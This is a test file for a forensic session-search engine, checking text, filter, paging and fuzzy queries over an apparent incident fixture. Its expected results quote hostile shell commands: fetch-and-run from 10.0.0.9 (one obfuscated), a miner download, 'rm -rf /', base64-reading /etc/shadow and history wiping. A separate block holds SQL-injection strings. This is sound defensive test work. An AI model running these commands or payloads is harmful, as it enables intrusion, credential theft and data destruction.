import type { Database } from 'sql.js';
import { beforeAll, describe, expect, it } from 'vitest';
import { QueryError } from '../../electron/core/search/query-error.js';
import { searchCase, type SearchOptions, type SearchResult } from '../../electron/services/search/search.js';
import { INCIDENT, searchDb } from '../helpers/search-fixtures.js';

let db: Database;
beforeAll(async () => {
  db = await searchDb(INCIDENT);
});

const texts = (q: string, options: SearchOptions = {}): string[] => searchCase(db, q, { limit: 100, ...options }).hits.map((h) => (h.kind === 'screen' ? `screen:${h.snippet}` : h.text));
const commands = (q: string, options: SearchOptions = {}): string[] => texts(`${q} in:commands`, options);

describe('search engine: text', () => {
  it('finds words, case-insensitively, in time order', () => {
    expect(commands('kubectl')).toEqual(['kubectl -n shop get pods', 'kubectl -n shop rollout restart deploy/checkout']);
    expect(commands('KUBECTL')).toEqual(commands('kubectl'));
    expect(commands('rm')).toEqual(['rm -rf / --no-preserve-root']);
    expect(commands('shadow')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
  });

  it('finds phrases and prefixes', () => {
    expect(commands('"apt install"')).toEqual(['sudo apt install nginx']);
    expect(commands('"install apt"')).toEqual([]);
    expect(commands('"rollout rest*"')).toEqual(['kubectl -n shop rollout restart deploy/checkout']);
    expect(commands('kube*')).toHaveLength(2);
    expect(commands('ps*')).toEqual(['psql -h db-1 -U bob -c "select 1"']);
  });

  it('combines with AND, OR, NOT and parentheses', () => {
    expect(commands('kubectl restart')).toEqual(['kubectl -n shop rollout restart deploy/checkout']);
    expect(commands('kubectl AND pods')).toEqual(['kubectl -n shop get pods']);
    expect(commands('psql OR git')).toEqual(['psql -h db-1 -U bob -c "select 1"', 'git log --oneline']);
    expect(commands('cat NOT shadow')).toEqual(['cat /etc/passwd']);
    expect(commands('(curl OR wget) NOT miner')).toEqual(['curl -fsSL http://10.0.0.9/x.sh | sh']);
    expect(commands('NOT (kubectl OR sudo OR cat OR curl OR wget)')).toEqual([
      'psql -h db-1 -U bob -c "select 1"',
      'git log --oneline',
      'id',
      'rm -rf / --no-preserve-root',
      "c\\url http://10.0.0.9/k | /bin/ba''sh",
      'history -c',
    ]);
  });

  it('matches punctuation-heavy text literally', () => {
    expect(commands('/etc/shadow')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
    expect(commands('"rm -rf /"')).toEqual(['rm -rf / --no-preserve-root']);
    expect(commands('"| sh"')).toEqual(['curl -fsSL http://10.0.0.9/x.sh | sh']);
    expect(commands('"| "')).toEqual(['curl -fsSL http://10.0.0.9/x.sh | sh', "c\\url http://10.0.0.9/k | /bin/ba''sh", 'cat${IFS}/etc/shadow | base64']);
    expect(commands('${IFS}')).toEqual(['cat${IFS}/etc/shadow | base64']);
    expect(commands('"10.0.0.9/"')).toHaveLength(3);
    expect(commands('/tmp/.m')).toEqual(['wget -q http://10.0.0.9/miner -O /tmp/.m']);
    // LIKE wildcards are literal here.
    expect(commands('"%"')).toEqual([]);
    expect(commands('"_"')).toEqual([]);
    expect(commands('tc/shad')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
  });

  it('finds what was on screen, with the line as snippet', () => {
    const r = searchCase(db, 'root in:screen');
    expect(r.hits.map((h) => h.snippet)).toEqual([
      'root:x:0:0:root:/root:/bin/bash',
      'root:$6$Zq1...:19700:0:99999:7:::',
      'rm: use --no-preserve-root to override this failsafe',
    ]);
    const [first] = r.hits;
    expect(first).toMatchObject({ kind: 'screen', session: 's-bob-1', user: 'bob', host: 'db-1', tty: 'pts/2', ts: '2024-11-20T10:05:00.500000Z' });
    expect(first?.snippetHighlights).toEqual([[0, 4], [11, 15], [17, 21]]);
    expect(first?.text.slice(...(first.highlights[0] as [number, number]))).toBe('root');
    expect(texts('"failsafe"')).toEqual(['screen:rm: use --no-preserve-root to override this failsafe']);
  });

  it('searches commands and screens together by default, merged in time order', () => {
    expect(texts('passwd')).toEqual(['cat /etc/passwd', 'screen:bob@db-1:~$ cat /etc/passwd']);
    expect(texts('passwd in:commands')).toEqual(['cat /etc/passwd']);
    expect(texts('passwd in:screen')).toEqual(['screen:bob@db-1:~$ cat /etc/passwd']);
  });

  it('returns everything the replay needs', () => {
    const [hit] = searchCase(db, 'curl in:commands').hits;
    expect(hit).toMatchObject({
      ts: '2024-11-21T03:01:00.000000Z',
      tsUs: Date.parse('2024-11-21T03:01:00Z') * 1000,
      session: 's-mallory-1',
      user: 'mallory',
      host: 'web-2',
      tty: 'pts/7',
      kind: 'command',
      text: 'curl -fsSL http://10.0.0.9/x.sh | sh',
      snippet: 'curl -fsSL http://10.0.0.9/x.sh | sh',
      highlights: [[0, 4]],
      evidenceId: 1,
      seq: 9,
    });
    expect(hit?.sessionId).toBeGreaterThan(0);
    expect(hit?.rowId).toBeGreaterThan(0);
  });
});

describe('search engine: filters', () => {
  it('user:, host: (with prefixes and lists), NOT', () => {
    expect(commands('user:bob')).toEqual(['psql -h db-1 -U bob -c "select 1"', 'cat /etc/passwd', 'git log --oneline']);
    expect(commands('cat user:bob')).toEqual(['cat /etc/passwd']);
    expect(commands('cat host:web-*')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
    expect(commands('sudo user:alice,mallory')).toEqual(['sudo apt install nginx', 'sudo cat /etc/shadow']);
    expect(commands('sudo user:alice user:mallory')).toEqual(commands('sudo user:alice,mallory'));
    expect(commands('sudo NOT user:alice')).toEqual(['sudo cat /etc/shadow']);
    expect(commands('NOT user:mallory NOT user:alice')).toEqual(commands('user:bob'));
    expect(commands('user:Bob')).toEqual([]); // exact and case-sensitive, as recorded
    expect(texts('user:bob in:screen')).toEqual(['screen:bob@db-1:~$ cat /etc/passwd']);
    expect(texts('root NOT host:db-1 in:screen')).toEqual(['screen:root:$6$Zq1...:19700:0:99999:7:::', 'screen:rm: use --no-preserve-root to override this failsafe']);
  });

  it('session:, tty:, source:', () => {
    expect(commands('session:s-alice-1')).toHaveLength(3);
    expect(commands('session:s-bob*')).toHaveLength(3);
    expect(commands('cat session:s-bob-1')).toEqual(['cat /etc/passwd']);
    expect(commands('tty:pts/7 shadow')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
    expect(commands('source:output')).toEqual(['cat /etc/passwd']);
    expect(commands('cat NOT source:output')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
    // source: is about commands: screens have none.
    expect(texts('passwd source:output')).toEqual(['cat /etc/passwd']);
    expect(texts('session:nope')).toEqual([]);
  });

  it('after: and before:, with zones, bare dates and the zone option', () => {
    expect(commands('user:mallory after:2024-11-21T03:05Z')).toEqual(['cat${IFS}/etc/shadow | base64', 'history -c']);
    expect(commands('user:mallory after:2024-11-21T04:05+01:00')).toEqual(commands('user:mallory after:2024-11-21T03:05Z'));
    expect(commands('user:mallory before:2024-11-21T03:00')).toEqual(['id']);
    expect(commands('before:2024-11-20T09:00:00.000002Z')).toEqual(['kubectl -n shop get pods']);
    expect(commands('before:2024-11-20T09:00:00.000001Z')).toEqual([]);
    expect(commands('after:2024-11-21')).toHaveLength(8);
    // A bare date in Berlin: the 21st starts at 23:00 UTC on the 20th.
    expect(commands('after:2024-11-21', { timezone: 'Europe/Berlin' })).toHaveLength(8);
    expect(commands('after:2024-11-21T11:59 before:2024-11-21T12:01', { timezone: 'Asia/Tokyo' })).toEqual(['id', 'sudo cat /etc/shadow']);
    expect(commands('kubectl after:2024-11-20T09:01Z before:2024-11-20T09:03Z')).toEqual(['kubectl -n shop rollout restart deploy/checkout']);
  });

  it('flag: finds what a rule flagged, by session and time span or record seq', () => {
    expect(texts('flag:credential-access')).toEqual(['sudo cat /etc/shadow', 'screen:mallory@web-2:~$ sudo cat /etc/shadow']);
    expect(texts('flag:cred*')).toEqual(texts('flag:credential-access'));
    expect(texts('flag:*')).toEqual(texts('flag:credential-access'));
    expect(texts('flag:unknown-rule')).toEqual([]);
    expect(commands('shadow NOT flag:credential-access')).toEqual(['cat${IFS}/etc/shadow | base64']);
  });
});

describe('search engine: pages and orders', () => {
  it('pages consistently: pages joined are the whole list; total counts every match', () => {
    const all = searchCase(db, 'user:mallory', { limit: 1000 });
    expect(all.total).toBe(all.hits.length);
    const seen: string[] = [];
    for (let offset = 0; offset < all.total; offset += 3) {
      const r = searchCase(db, 'user:mallory', { limit: 3, offset });
      expect(r.total).toBe(all.total);
      seen.push(...r.hits.map((h) => `${h.kind}${h.rowId}`));
    }
    expect(seen).toEqual(all.hits.map((h) => `${h.kind}${h.rowId}`));
    expect(searchCase(db, 'user:mallory', { limit: 3, offset: 1000 })).toMatchObject({ total: all.total, hits: [] });
  });

  it('orders newest first, or by relevance', () => {
    const oldest = searchCase(db, 'cat OR shadow OR passwd').hits.map((h) => h.rowId * (h.kind === 'screen' ? -1 : 1));
    const newest = searchCase(db, 'cat OR shadow OR passwd', { order: 'newest' }).hits.map((h) => h.rowId * (h.kind === 'screen' ? -1 : 1));
    expect(newest).toEqual([...oldest].reverse());
    const ranked = searchCase(db, 'shadow OR cat in:commands', { order: 'relevance' }).hits;
    const scores = ranked.map((h) => h.score ?? -1);
    expect([...scores].sort((a, b) => b - a)).toEqual(scores);
    // Both words beat one; the short `cat /etc/passwd` ranks above the longer one-word matches.
    expect(ranked[0]?.text).toBe('sudo cat /etc/shadow');
    expect(ranked.map((h) => h.text)).toContain('cat /etc/passwd');
  });

  it('refuses bad paging options', () => {
    expect(() => searchCase(db, 'x', { limit: 0 })).toThrow(/limit must be a whole number from 1 to 1000/);
    expect(() => searchCase(db, 'x', { limit: 1001 })).toThrow(/limit/);
    expect(() => searchCase(db, 'x', { offset: -1 })).toThrow(/offset/);
  });
});

describe('search engine: mistakes and hostile input', () => {
  it('reports malformed queries with the column', () => {
    expect(() => searchCase(db, 'user:alice (kubectl OR sudo')).toThrow('unbalanced parenthesis at column 12');
    expect(() => searchCase(db, 'x after:2024-13-01')).toThrow(/at column 9/);
    expect(() => searchCase(db, 'x', { timezone: 'Mars/Olympus' })).toThrow(QueryError);
  });

  it('keeps injection attempts inert: values are bound, MATCH words are tokens', () => {
    const before = db.exec('SELECT count(*) FROM commands')[0]?.values[0]?.[0];
    const hostile = [
      "'; DROP TABLE commands; --",
      '"; DROP TABLE commands; --"',
      "user:\"alice' OR '1'='1\"",
      'user:"alice\\" OR attrs:*"',
      'host:"x\') OR 1=1 --"',
      'kubectl" OR "1"="1',
      '"a" NEAR/0 "b"',
      'text:* OR attrs:*',
      'session:"\' UNION SELECT sql FROM sqlite_master --"',
      'flag:"x\' OR \'1\'=\'1"',
      '"%" OR "_"',
      '\\" OR 1=1',
      'tty:*',
      '*',
      'NEAR',
      'attrs:u616c696365',
    ];
    const outcomes: Array<SearchResult | QueryError> = [];
    for (const q of hostile) {
      try {
        outcomes.push(searchCase(db, q));
      } catch (error) {
        expect(error, q).toBeInstanceOf(QueryError);
        outcomes.push(error as QueryError);
      }
    }
    expect(db.exec('SELECT count(*) FROM commands')[0]?.values[0]?.[0]).toBe(before);
    expect(db.exec("SELECT count(*) FROM sqlite_master WHERE name = 'commands'")[0]?.values[0]?.[0]).toBe(1);
    // None of them matches what an injection would: everything, or the schema.
    for (const r of outcomes) if (!(r instanceof QueryError)) expect(r.hits.every((h) => !h.text.includes('CREATE TABLE'))).toBe(true);
    expect(searchCase(db, "user:\"alice' OR '1'='1\"").total).toBe(0);
    expect(searchCase(db, 'text:* OR attrs:*').total).toBe(0);
    expect(searchCase(db, 'attrs:u616c696365').total).toBe(0);
  });
});

describe('search engine: fuzzy mode', () => {
  const fuzzy = (q: string): string[] => searchCase(db, q, { fuzzy: true, limit: 100, order: 'time' }).hits.map((h) => h.text);

  it('forgives typos and sees through shell obfuscation', () => {
    expect(fuzzy('wgte')).toEqual(['wget -q http://10.0.0.9/miner -O /tmp/.m']);
    expect(fuzzy('kubctl rolout')).toEqual(['kubectl -n shop rollout restart deploy/checkout']);
    expect(fuzzy('curl')).toEqual(['curl -fsSL http://10.0.0.9/x.sh | sh', "c\\url http://10.0.0.9/k | /bin/ba''sh"]);
    expect(fuzzy('c\\url')).toEqual(fuzzy('curl'));
    expect(fuzzy("/bin/ba''sh")).toEqual(["c\\url http://10.0.0.9/k | /bin/ba''sh"]);
    expect(fuzzy('cat /etc/shadow')).toEqual(['sudo cat /etc/shadow', 'cat${IFS}/etc/shadow | base64']);
  });

  it('highlights the match in the command as recorded', () => {
    const [hit] = searchCase(db, '/bin/bash', { fuzzy: true }).hits;
    expect(hit?.text.slice(...(hit.highlights[0] as [number, number]))).toBe("/bin/ba''sh");
    const [c] = searchCase(db, 'curl', { fuzzy: true, order: 'newest' }).hits;
    expect(c?.text.slice(...(c.highlights[0] as [number, number]))).toBe('c\\url');
  });

  it('applies filters, pages and orders', () => {
    expect(searchCase(db, 'cat user:bob', { fuzzy: true }).hits.map((h) => h.text)).toEqual(['cat /etc/passwd']);
    // Closest first by default in fuzzy mode.
    expect(searchCase(db, 'cat /etc/shadw', { fuzzy: true }).hits[0]?.text).toBe('sudo cat /etc/shadow');
    expect(searchCase(db, 'curl after:2024-11-21T03:02Z', { fuzzy: true }).hits.map((h) => h.text)).toEqual(["c\\url http://10.0.0.9/k | /bin/ba''sh"]);
    const r = searchCase(db, 'cat', { fuzzy: true, limit: 1, offset: 1 });
    expect(r.hits).toHaveLength(1);
    expect(r.total).toBeGreaterThan(2);
    const ranked = searchCase(db, 'curl', { fuzzy: true, order: 'relevance' }).hits;
    expect(ranked[0]?.score).toBeGreaterThanOrEqual(ranked[1]?.score ?? 0);
  });

  it('refuses boolean syntax and screens, saying where', () => {
    expect(() => searchCase(db, 'curl OR wget', { fuzzy: true })).toThrow('OR is not available in fuzzy mode (it matches the words as one approximate text) at column 6');
    expect(() => searchCase(db, 'x in:screen', { fuzzy: true })).toThrow(/commands only/);
    expect(() => searchCase(db, 'user:bob', { fuzzy: true })).toThrow(/needs some text/);
  });
});
